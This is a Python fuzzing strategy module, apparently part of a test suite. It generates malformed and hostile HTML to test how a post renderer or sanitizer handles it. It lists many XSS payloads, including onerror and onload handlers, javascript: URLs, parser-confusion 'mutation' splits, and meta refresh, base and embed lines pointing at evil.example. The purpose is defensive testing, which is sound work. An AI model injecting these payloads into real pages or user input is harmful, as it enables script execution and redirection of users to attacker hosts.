"""Raw HTML as posts have it, and as somebody writes it who wants a script to run: broken, nested, read differently by others."""

from __future__ import annotations

from hypothesis import strategies as st

from tests.fuzz.texts import Texts, addresses, either, lines, odd, one, paths, seq, some, words

_TAGS = (
    *(
        "b",
        "a",
        "p",
        "div",
        "span",
        "br",
        "h2",
        "ul",
        "table",
        "tr",
        "td",
        "details",
        "summary",
        "video",
        "audio",
        "source",
        "img",
    ),
    *(
        "image",
        "svg",
        "math",
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "select",
        "option",
    ),
    *(
        "meta",
        "base",
        "link",
        "template",
        "noscript",
        "noembed",
        "noframes",
        "textarea",
        "title",
        "xmp",
        "plaintext",
        "body",
        "html",
    ),
    *(
        "head",
        "frameset",
        "marquee",
        "portal",
        "dialog",
        "picture",
        "figure",
        "figcaption",
        "center",
        "font",
        "animate",
        "set",
        "use",
    ),
    *("foreignObject", "mtext", "annotation-xml", "x-ZQK", "SCRIPT", "ScRiPt", "sc\x00ript", "script/x", "img/src=x"),
)
_ATTRIBUTES = (
    *("onclick", "ONLOAD", "onerror", "onmouseover", "ontoggle", "onbegin", "onfocus", "autofocus", "onanimationstart", "on"),
    *(
        "style",
        "class",
        "id",
        "title",
        "alt",
        "srcdoc",
        "http-equiv",
        "content",
        "name",
        "is",
        "tabindex",
        "open",
        "popovertarget",
    ),
)
_ADDRESSES = (
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "srcset",
    "cite",
    "to",
    "from",
    "values",
)

_value = either(one("ZQK", "alert(1)", "1", "refresh", "0;url=https://evil.example/ZQK", "<script>ZQK</script>"), lines)
_quotes = one('"', '"', "'", "")
_space = one(" ", " ", " ", "\n", "/", "\t", "\x0c", "", "\x0b", "\r")


def _attribute(names: Texts, value: Texts) -> Texts:
    return st.tuples(_space, names, one("=", "=", "=", " = ", ""), _quotes, value).map(
        lambda p: f"{p[0]}{p[1]}{p[2]}{p[3]}{p[4]}{p[3]}"
    )


_attributes = st.lists(
    either(
        _attribute(st.sampled_from(_ATTRIBUTES), _value),
        _attribute(st.sampled_from(_ADDRESSES), either(addresses, paths, one("javascript:ZQK", "data:text/html,ZQK"))),
        seq(_space, odd, "onclick=ZQK"),
    ),
    max_size=3,
).map("".join)
_ends = one(">", ">", ">", "/>", " >", ">>", "", "\n>", "\n\n>")
_tag = seq(one("<", "<", "<", "</", "< ", "<<", "&lt;", "\\<"), st.sampled_from(_TAGS), _attributes, _ends)
_pair = st.sampled_from(_TAGS).flatmap(
    lambda name: seq(
        f"<{name}",
        _attributes,
        _ends,
        one("ZQK", "\nZQK\n", "\n\nZQK\n\n", "\n\n```{include} ../../canary.txt\n```\n\n"),
        f"</{name}>",
    )
)

#: Where readers of HTML part: what one takes for a comment, a title or an attribute is an element to another.
_SPLITS = (
    *(
        '<noscript><p title="</noscript><img src=x onerror=ZQK>">',
        "<!--><img src=x onerror=ZQK>-->",
        "<!-- --!><svg onload=ZQK> -->",
    ),
    *(
        "<![CDATA[><img src=x onerror=ZQK>]]>",
        "<?ZQK ><img src=x onerror=ZQK>?>",
        "<svg><style><img src=x onerror=ZQK></style></svg>",
    ),
    *(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ZQK&gt;">',
        "<img src=`x` onerror=ZQK>",
    ),
    *(
        '<a title="</title><script>ZQK</script>">',
        "<select><img src=x onerror=ZQK></select>",
        '<textarea><p title="</textarea><svg onload=ZQK>">',
    ),
    *(
        '<img """><script>ZQK</script>">',
        "<b <script>ZQK</script>>ZQK</b>",
        "<table><tr><script>ZQK</script>",
        "<p>ZQK<plaintext>ZQK",
    ),
    *(
        "<!-- ZQK",
        "ZQK -->",
        "<!-- ZQK\n\nZQK -->",
        "<!ZQK>",
        "<!--\n![](../../canary.png)\n-->",
        "<script>\n\nZQK",
        "</div></div></div>",
    ),
    *(
        "<style>@import '//evil.example/ZQK';</style>",
        "<svg><a xlink:href=javascript:ZQK><text>ZQK</text></a></svg>",
        "<div>\n\n> ZQK",
    ),
    *(
        "<svg><animate xlink:href=#x attributeName=href values=javascript:ZQK /><a id=x><text>ZQK",
        "<iframe srcdoc='<script>ZQK</script>'>",
    ),
    *(
        "<form id=f></form><button form=f formaction=javascript:ZQK>ZQK",
        "<embed src=//evil.example/ZQK>",
        "<object data=data:text/html,ZQK>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:ZQK'>",
        "<base href=//evil.example/ZQK/>",
        "<link rel=stylesheet href=//x/ZQK>",
    ),
    *("<img src=../../canary.png alt=ZQK>", "<video src=../../canary.txt></video>", "<a href=../../canary.txt>ZQK</a>"),
    *(
        '<figure><img src="hall.jpg"><figcaption>ZQK <script>ZQK</script></figcaption></figure>',
        '<div class="admonition note">\nZQK\n</div>',
    ),
)

#: A block of HTML.
blocks = either(
    _tag,
    _pair,
    _pair,
    st.sampled_from(_SPLITS),
    st.sampled_from(_SPLITS),
    some(_tag, "\n", 1, 3),
    seq("<div>\n\n", words, "\n\n</div>"),
)
#: HTML in the middle of a line.
inline = either(_tag, _pair, st.sampled_from(_SPLITS)).map(lambda text: text.replace("\n\n", " ").replace("\n", " "))
